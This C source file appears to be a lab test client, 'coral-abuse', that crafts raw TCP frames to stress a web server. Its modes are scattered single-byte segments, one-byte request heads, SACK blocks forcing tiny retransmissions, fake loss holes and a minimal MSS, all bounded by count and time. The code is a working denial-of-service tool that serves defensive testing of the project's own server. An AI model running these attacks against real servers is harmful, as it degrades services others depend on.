/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * coral-abuse: for the lab, a client with a TCP of its own that keeps to the letter and not to the
 * spirit: what costs the server most for the least that the client does. Bounded by a count of
 * frames and by a time. The kernel must be kept from these connections (iptables -I INPUT -p tcp
 * --sport 80 -j DROP, in the client's namespace; this program sees frames before that).
 *
 *   islands   single bytes here and there in the receive window, never the one that is due
 *   tiny      a request's head by one byte a segment, without end
 *   sack      an object asked for, then SACK blocks that leave single bytes to be sent again
 *   holes     the same with every second segment of a large flight, as if those were lost
 *   mss       an object asked for in the smallest segments that the server makes
 */
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "tests/lab/frame.h"

#define CLIENTS_MAX    4096u
#define SECONDS_MAX    120.0
#define COUNT_MAX      100000000ull
#define AGAIN_NS       300000000ull /* a SYN without an answer */
#define LAST_WORDS_NS  300000000ull /* for answers to our resets */
#define TURN           64u          /* frames received or sent before the other has its turn */
#define GROW_BYTES     (3u << 20)   /* acknowledged in order first: the congestion window opens */
#define SETTLE_NS      100000000ull /* then the flight is all that it will be */
#define SACKS_A_TURN   2000u        /* then the flight is acknowledged, and another begins */
#define NAME_MAX_BYTES 200u         /* of what is asked for */
#define HEAD_BYTES     16000u       /* below what a head may have */
#define SPAN_BYTES     14000u       /* of a flight that `sack` works on */
#define WINDOW_BYTES   (200u << 10) /* of the server's receive window, when it is open */
#define SACKS          3u

enum { DONE = 0, FAILED = 1, USAGE = 2 };
enum kind { ISLANDS, TINY, SACK, HOLES, MSS, KINDS };
static const char *const kind_name[KINDS] = {"islands", "tiny", "sack", "holes", "mss"};

static const char usage[] =
    "usage: coral-abuse [OPTION...] KIND   islands, tiny, sack, holes or mss; prints JSON\n"
    "  --interface NAME      where frames leave (eth0)\n"
    "  --mac ADDRESS         of the server or the next hop; needed\n"
    "  --to ADDRESS --from ADDRESS  one family, needed; --port N: the server's (80)\n"
    "  --ports FIRST         local port of the first connection (20000)\n"
    "  --connections N       at once (8)\n"
    "  --host NAME --path P  what is asked for (www.site.test.coral.test, /)\n"
    "  --rate N              frames of abuse a second (20000)\n"
    "  --count N --seconds S the bounds, whichever comes first (1000000, 1)\n"
    "  --leave               leaves the connections to the server; else they are reset\n";

enum state { CLOSED, SYN_SENT, OPEN, GONE };

struct client {
    enum state state;
    uint16_t port;
    uint32_t iss, snd_nxt; /* our numbers */
    uint32_t rcv_nxt;      /* the next that is due from the server, */
    uint32_t rcv_max;      /* the highest that came */
    uint32_t got, sacks, segment, echo;
    uint64_t since_ns;
};

struct abuse {
    enum kind kind;
    const char *interface, *host, *path_asked;
    struct frame_path path;
    uint32_t port, first, clients;
    uint64_t rate, count, sent, abused, received, bytes, resets, opened, seed;
    uint32_t flight; /* the largest */
    double seconds;
    bool leave, over;
    int fd;
    struct client client[CLIENTS_MAX];
};

static int complain(const char *thing, const char *value, const char *remedy)
{
    fprintf(stderr, "coral-abuse: %s: \"%s\" %s\n", thing, value, remedy);
    return USAGE;
}

static uint32_t draw(struct abuse *a, uint32_t below) /* splitmix64 */
{
    uint64_t z = a->seed += 0x9e3779b97f4a7c15u;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9u;
    z = (z ^ z >> 27) * 0x94d049bb133111ebu;
    return below ? (uint32_t)((z ^ z >> 31) >> 32) % below : 0;
}

static void put32(uint8_t *to, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        to[i] = (uint8_t)(v >> (24 - 8 * i));
}

/* With a timestamp behind what options there are: a SYN cookie keeps nothing else of our SYN. */
static void emit(struct abuse *a, struct client *c, struct frame_tcp *t)
{
    uint8_t frame[FRAME_MAX], *o = t->option + t->option_len;
    memcpy(o, (const uint8_t[]){1, 1, 8, 10}, 4);
    put32(o + 4, (uint32_t)(frame_now_ns() / 1000000));
    put32(o + 8, c->echo);
    t->option_len += 12;
    t->sport = c->port;
    t->dport = (uint16_t)a->port;
    t->window = 65535;
    if (send(a->fd, frame, frame_tcp(frame, &a->path, t), 0) > 0)
        a->sent++;
}

static void say(struct abuse *a, struct client *c, uint8_t flags, const void *data, uint16_t len)
{
    struct frame_tcp t = {
        .seq = c->snd_nxt, .ack = c->rcv_nxt, .flags = flags, .data = data, .len = len};
    emit(a, c, &t);
    c->snd_nxt += len;
}

static void begin(struct abuse *a, struct client *c, uint64_t now_ns)
{
    unsigned mss = a->kind == MSS ? 1 : a->path.v6 ? 1440 : 1460;
    if (c->state != SYN_SENT)
        c->iss = draw(a, UINT32_MAX);
    c->echo = 0;
    c->state = SYN_SENT;
    c->since_ns = now_ns;
    struct frame_tcp t = {
        .seq = c->iss,
        .flags = FRAME_SYN,
        .option_len = 12, /* MSS, SACK permitted, a scale of 10 */
        .option = {2, 4, (uint8_t)(mss >> 8), (uint8_t)mss, 1, 1, 4, 2, 1, 3, 3, 10}};
    emit(a, c, &t);
}

static void opened(struct abuse *a, struct client *c, uint32_t seq, uint64_t now_ns)
{
    char request[512];
    int n = snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: %s\r\n%s", a->path_asked,
                     a->host, a->kind == ISLANDS || a->kind == TINY ? "X: " : "\r\n");
    c->state = OPEN;
    c->since_ns = now_ns;
    c->snd_nxt = c->iss + 1;
    c->rcv_nxt = c->rcv_max = seq + 1;
    c->got = c->sacks = 0;
    a->opened++;
    say(a, c, FRAME_ACK | FRAME_PSH, request, (uint16_t)n);
}

/* The turn's clock may be behind the time when a frame came. */
static uint64_t since_ns(const struct client *c, uint64_t now_ns)
{
    return now_ns > c->since_ns ? now_ns - c->since_ns : 0;
}

static bool abuses_flight(const struct abuse *a)
{
    return a->kind == SACK || a->kind == HOLES;
}

static uint32_t grow_bytes(const struct abuse *a)
{
    return a->kind == SACK ? 0 : GROW_BYTES;
}

/* A pause would be taken for the path's round trip, and `sack` lives from a short one. */
static uint64_t settle_ns(const struct abuse *a)
{
    return a->kind == SACK ? 0 : SETTLE_NS;
}

/* Data: acknowledged as it comes, until the congestion window is as open as it gets. */
static void data(struct abuse *a, struct client *c, const struct frame_tcp *t, uint64_t now_ns)
{
    uint32_t end = t->seq + t->len;
    a->bytes += t->len;
    c->segment = t->len > c->segment ? t->len : c->segment;
    if ((int32_t)(end - c->rcv_max) > 0) {
        c->rcv_max = end;
        if (abuses_flight(a) && c->got >= grow_bytes(a) && c->sacks == 0)
            c->since_ns = now_ns;
    }
    if (abuses_flight(a) && c->got >= grow_bytes(a))
        return;
    if (t->seq == c->rcv_nxt) {
        c->rcv_nxt = end;
        c->got += t->len;
        c->since_ns = now_ns;
    }
    say(a, c, FRAME_ACK, NULL, 0);
}

static void take(struct abuse *a, const uint8_t *frame, unsigned len, uint64_t now_ns)
{
    struct frame_seen s;
    if (!frame_read(frame, len, &s) || s.v6 != a->path.v6 || s.tcp.sport != a->port ||
        memcmp(s.to, a->path.from, s.v6 ? 16 : 4) != 0 || s.tcp.dport < a->first ||
        s.tcp.dport >= a->first + a->clients)
        return;
    struct client *c = &a->client[s.tcp.dport - a->first];
    a->received++;
    c->echo = s.timestamp;
    if (a->over) { /* the server asks whether we meant it */
        struct frame_tcp t = {.seq = s.tcp.ack, .flags = FRAME_RST};
        if (!(s.tcp.flags & FRAME_RST))
            emit(a, c, &t);
    } else if (s.tcp.flags & FRAME_RST) {
        a->resets++;
        c->state = GONE;
    } else if (s.tcp.flags & FRAME_SYN) {
        if (c->state == SYN_SENT && s.tcp.ack == c->iss + 1)
            opened(a, c, s.tcp.seq, now_ns);
    } else if (c->state == OPEN && s.tcp.len > 0) {
        data(a, c, &s.tcp, now_ns);
    }
}

static void receive(struct abuse *a)
{
    uint8_t frame[2048];
    for (unsigned i = 0; i < TURN; i++) {
        ssize_t n = recv(a->fd, frame, sizeof(frame), MSG_DONTWAIT);
        if (n <= 0)
            return;
        take(a, frame, (unsigned)n, frame_now_ns());
    }
}

static void reset(struct abuse *a, struct client *c)
{
    if (c->state == OPEN)
        say(a, c, FRAME_RST, NULL, 0);
    c->state = CLOSED;
}

/* The n-th blocks of `sack`: seven bytes of each eight first; then the eighth ones from the last
 * to the first, each of them sent later than all that are left. Returns how many; 0: no more. */
static unsigned sack_bytes(const struct client *c, uint32_t n, uint32_t at[SACKS], uint32_t *len)
{
    uint32_t span = c->rcv_max - c->rcv_nxt, eights;
    span = span < SPAN_BYTES ? span : SPAN_BYTES;
    eights = span > 9 ? (span - 1) / 8 : 0;
    *len = n < eights / SACKS ? 7 : 1;
    if (*len == 7) {
        for (uint32_t i = 0; i < SACKS; i++)
            at[i] = 1 + 8 * (SACKS * n + i);
        return SACKS;
    }
    n -= eights / SACKS;
    at[0] = 8 * (eights - n);
    return n < eights ? 1 : 0;
}

/* The n-th blocks of `holes`: segments with an odd number. */
static unsigned sack_segments(struct abuse *a, const struct client *c, uint32_t n,
                              uint32_t at[SACKS], uint32_t *len)
{
    uint32_t pairs = c->segment ? (c->rcv_max - c->rcv_nxt) / c->segment / 2 : 0;
    *len = c->segment;
    for (unsigned i = 0; i < SACKS && pairs; i++)
        at[i] = c->segment * (2 * draw(a, pairs) + 1);
    return pairs > 0 && n < SACKS_A_TURN ? SACKS : 0;
}

/* An ACK of no new byte with SACK blocks. When they are worn out another flight begins. */
static bool sack(struct abuse *a, struct client *c)
{
    uint32_t at[SACKS], len, flight = c->rcv_max - c->rcv_nxt;
    struct frame_tcp t = {
        .seq = c->snd_nxt, .ack = c->rcv_nxt, .flags = FRAME_ACK, .option = {1, 1, 5}};
    if (flight == 0)
        return false;
    unsigned n = a->kind == SACK ? sack_bytes(c, c->sacks, at, &len)
                                 : sack_segments(a, c, c->sacks, at, &len);
    a->flight = flight > a->flight ? flight : a->flight;
    if (n == 0 && a->kind == SACK) { /* its windows are down to a segment: a fresh one */
        reset(a, c);
        return true;
    }
    if (n == 0) {
        c->sacks = 0;
        c->rcv_nxt = c->rcv_max;
        say(a, c, FRAME_ACK, NULL, 0);
        return true;
    }
    t.option[3] = (uint8_t)(2 + 8 * n);
    t.option_len = (uint8_t)(4 + 8 * n);
    for (unsigned i = 0; i < n; i++) {
        put32(t.option + 4 + 8 * i, c->rcv_nxt + at[i]);
        put32(t.option + 8 + 8 * i, c->rcv_nxt + at[i] + len);
    }
    emit(a, c, &t);
    c->sacks++;
    return true;
}

/* One frame of abuse, if this connection has any to give now. */
static bool turn(struct abuse *a, struct client *c, uint64_t now_ns)
{
    if (c->state == CLOSED || c->state == GONE ||
        (c->state == SYN_SENT && since_ns(c, now_ns) > AGAIN_NS)) {
        begin(a, c, now_ns);
        return true;
    }
    if (c->state != OPEN)
        return false;
    if (a->kind == ISLANDS) {
        struct frame_tcp t = {.seq = c->snd_nxt + 1 + 2 * draw(a, WINDOW_BYTES / 2),
                              .ack = c->rcv_nxt,
                              .flags = FRAME_ACK,
                              .data = "x",
                              .len = 1};
        emit(a, c, &t);
        return true;
    }
    if (a->kind == TINY) {
        if (c->snd_nxt - c->iss > HEAD_BYTES)
            reset(a, c);
        else
            say(a, c, FRAME_ACK, "x", 1);
        return true;
    }
    if (abuses_flight(a))
        return c->got >= grow_bytes(a) && since_ns(c, now_ns) > settle_ns(a) && sack(a, c);
    if (since_ns(c, now_ns) > AGAIN_NS) /* mss: the object is over */
        reset(a, c);
    return false;
}

static void abuse(struct abuse *a)
{
    uint64_t start = frame_now_ns(), now, limit = (uint64_t)(a->seconds * 1e9);
    uint32_t next = 0;
    for (uint32_t i = 0; i < a->clients; i++)
        a->client[i].port = (uint16_t)(a->first + i);
    while (a->sent < a->count && (now = frame_now_ns()) - start < limit) {
        receive(a);
        uint64_t due = (uint64_t)((double)(now - start) / 1e9 * (double)a->rate);
        unsigned idle = 0, n = 0;
        while (a->abused < due && n++ < TURN && idle < a->clients) {
            struct client *c = &a->client[next++ % a->clients];
            if (!turn(a, c, now)) {
                idle++;
                continue;
            }
            idle = 0;
            a->abused++;
        }
        if (idle == a->clients && due > a->abused)
            a->abused = due; /* what had no taker is not made up for */
        if (n == 0)
            nanosleep(&(struct timespec){0, 20000}, NULL);
    }
    for (uint32_t i = 0; i < a->clients && !a->leave; i++)
        reset(a, &a->client[i]);
    a->over = true;
    for (now = frame_now_ns(); !a->leave && frame_now_ns() - now < LAST_WORDS_NS;) {
        receive(a);
        nanosleep(&(struct timespec){0, 1000000}, NULL);
    }
    printf("{\"kind\": \"%s\", \"opened\": %llu, \"sent\": %llu, \"received\": %llu, "
           "\"bytes\": %llu, \"resets\": %llu, \"flight\": %u, \"seconds\": %.3f}\n",
           kind_name[a->kind], (unsigned long long)a->opened, (unsigned long long)a->sent,
           (unsigned long long)a->received, (unsigned long long)a->bytes,
           (unsigned long long)a->resets, a->flight, (double)(frame_now_ns() - start) / 1e9);
}

static bool number(const char *text, uint64_t least, uint64_t max, uint64_t *out)
{
    char *end;
    errno = 0;
    *out = strtoull(text, &end, 10);
    return *text >= '0' && *text <= '9' && !*end && !errno && *out >= least && *out <= max;
}

static int option(struct abuse *a, int c, const char *arg, unsigned *seen, bool v6[2])
{
    uint64_t n = 0;
    char *end;
    bool good = true;
    switch (c) {
    case 'i':
        a->interface = arg;
        return DONE;
    case 'H':
    case 'w':
        *(c == 'H' ? &a->host : &a->path_asked) = arg;
        return strlen(arg) <= NAME_MAX_BYTES ? DONE : complain("request", arg, "is too long");
    case 'l':
        a->leave = true;
        return DONE;
    case 'm':
        *seen |= 1;
        return frame_mac(arg, a->path.mac_to)
                   ? DONE
                   : complain("--mac", arg, "is no MAC address; write 02:00:00:00:00:01");
    case 't':
        *seen |= 2;
        return frame_address(arg, a->path.to, &v6[0])
                   ? DONE
                   : complain("--to", arg, "is no IP address; write 10.1.0.11 or fd00:1::11");
    case 'f':
        *seen |= 4;
        return frame_address(arg, a->path.from, &v6[1])
                   ? DONE
                   : complain("--from", arg, "is no IP address; write 10.1.0.11 or fd00:1::11");
    case 'p':
        good = number(arg, 1, 65535, &n);
        a->port = (uint32_t)n;
        return good ? DONE : complain("--port", arg, "is no port from 1 to 65535");
    case 'P':
        good = number(arg, 1, 65535 - CLIENTS_MAX, &n);
        a->first = (uint32_t)n;
        return good ? DONE : complain("--ports", arg, "is no port from 1 to 61439");
    case 'n':
        good = number(arg, 1, CLIENTS_MAX, &n);
        a->clients = (uint32_t)n;
        return good ? DONE : complain("--connections", arg, "is no number from 1 to 4096");
    case 'r':
        return number(arg, 1, COUNT_MAX, &a->rate) ? DONE : complain("--rate", arg, "is no rate");
    case 'c':
        return number(arg, 1, COUNT_MAX, &a->count)
                   ? DONE
                   : complain("--count", arg, "is no number up to 100000000");
    case 's':
        a->seconds = strtod(arg, &end);
        return a->seconds > 0 && a->seconds <= SECONDS_MAX && !*end
                   ? DONE
                   : complain("--seconds", arg, "is not above 0 and up to 120");
    case 'h':
        fputs(usage, stdout);
        exit(DONE);
    default:
        fputs(usage, stderr);
        return USAGE;
    }
}

int main(int argc, char **argv)
{
    static const struct option long_option[] = {
        {"interface", 1, NULL, 'i'},   {"mac", 1, NULL, 'm'},   {"to", 1, NULL, 't'},
        {"port", 1, NULL, 'p'},        {"from", 1, NULL, 'f'},  {"ports", 1, NULL, 'P'},
        {"connections", 1, NULL, 'n'}, {"host", 1, NULL, 'H'},  {"path", 1, NULL, 'w'},
        {"rate", 1, NULL, 'r'},        {"count", 1, NULL, 'c'}, {"seconds", 1, NULL, 's'},
        {"leave", 0, NULL, 'l'},       {"help", 0, NULL, 'h'},  {NULL, 0, NULL, 0},
    };
    static struct abuse a = {.interface = "eth0",
                             .host = "www.site.test.coral.test",
                             .path_asked = "/",
                             .port = 80,
                             .first = 20000,
                             .clients = 8,
                             .rate = 20000,
                             .count = 1000000,
                             .seconds = 1,
                             .seed = 1};
    unsigned seen = 0;
    bool v6[2] = {false, false};
    int c;
    while ((c = getopt_long(argc, argv, "", long_option, NULL)) != -1) {
        int status = option(&a, c, optarg, &seen, v6);
        if (status)
            return status;
    }
    if (optind + 1 != argc || seen != 7 || v6[0] != v6[1]) {
        fputs(v6[0] != v6[1] && seen == 7 ? "coral-abuse: --to and --from: not of one family\n"
                                          : usage,
              stderr);
        return USAGE;
    }
    while (a.kind < KINDS && strcmp(argv[optind], kind_name[a.kind]) != 0)
        a.kind++;
    if (a.kind == KINDS)
        return complain("kind", argv[optind], "is none; write islands, tiny, sack, holes or mss");
    a.path.v6 = v6[0];
    a.seed = frame_now_ns();
    a.fd = frame_socket("abuse", a.interface, true, &a.path);
    if (a.fd < 0)
        return FAILED;
    abuse(&a);
    return DONE;
}
